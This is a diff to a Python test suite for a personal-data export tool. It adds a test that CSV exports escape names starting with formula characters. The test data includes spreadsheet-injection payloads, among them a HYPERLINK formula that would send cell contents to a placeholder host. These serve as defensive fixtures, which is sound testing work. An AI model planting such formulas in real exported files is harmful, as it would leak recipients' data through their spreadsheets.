@@ -105,6 +105,34 @@ def test_a_recipient_gets_the_identifiers_that_it_is_listed_for(one, export, tmp
     assert all(why.startswith("personalised_offers: ") for why in done.json["held_back"])
 
 
+def test_a_name_in_a_csv_is_no_formula(small, tmp_path):
+    """It would run in the recipient's spreadsheet."""
+    one = small.copy(tmp_path / "home")
+    with one.entered(), connected(*stores()) as connection:
+        for start, name in (("=", '=HYPERLINK("http://example.org?"&A1)'), ("\t", "\t=1+1"),
+                            ("-", "-2+3"), ("@", "@SUM(A1)"), ("+", "+1 555 0100")):  # fmt: skip
+            connection.execute(
+                "update vault.identifiers set full_name = ? where subject_key ="
+                " (select min(subject_key) from vault.identifiers"
+                "  where full_name like 'Person %' and subject_key not in"
+                "  (select subject_key from vault.identifiers where full_name like ?))",
+                [name, f"{start}%"],
+            )
+    asked = ("export", "1", "--purpose", "personalised_offers", "--recipient", "offers_partner",
+             "--unencrypted", "--json", "--to")  # fmt: skip
+    done = one.assent(*asked, str(tmp_path / "audience.csv"))
+    assert done.status == 0, done.said
+    names = [row["full_name"] for row in csv.DictReader((tmp_path / "audience.csv").open())]
+    marked = [name for name in names if name.startswith("'")]
+    assert not [name for name in names if name.startswith(("=", "+", "-", "@", "\t"))]
+    # Parquet has types, so a text is one there.
+    done_parquet = one.assent(*asked, str(tmp_path / "audience.parquet"))
+    plain = pyarrow.parquet.read_table(tmp_path / "audience.parquet")["full_name"].to_pylist()
+    assert [name.removeprefix("'") for name in names] == plain
+    assert done.json["apostrophes"] == len(marked) > 0
+    assert done_parquet.json["apostrophes"] == 0
+
+
 def test_a_member_of_whom_no_permission_is_known_is_held_back(small, tmp_path):
     one = small.copy(tmp_path / "home")
     who = min(members(one))
@@ -135,6 +163,7 @@ def test_it_leaves_a_manifest_and_one_act(one, export, tmp_path):
     assert manifest | {
         "purpose": "segmentation", "recipient": "store_planning", "role": "controller",
         "country": "US", "columns": ["customer_id"], "encrypted": True, "held_back": {},
+        "apostrophes": 0,
         "at": "2024-12-31T05:00:00+00:00", "clock": "set",
         "judged_at": "2024-12-31T05:00:00+00:00", "policy_hash": policy_hash(one.policy),
     } == manifest  # fmt: skip
@@ -145,7 +174,13 @@ def test_it_leaves_a_manifest_and_one_act(one, export, tmp_path):
     assert act["act"] == "export"
     assert act["release_id"] == manifest["release_id"]
     assert act["clock"] == "set"
-    assert act["keys"] == ["published_permission", "published_segmentation", "salts", "vault"]
+    assert act["keys"] == [
+        "inbox",
+        "published_permission",
+        "published_segmentation",
+        "salts",
+        "vault",
+    ]
 
 
 def test_a_clock_that_is_behind_forgets_no_denial(small, tmp_path):
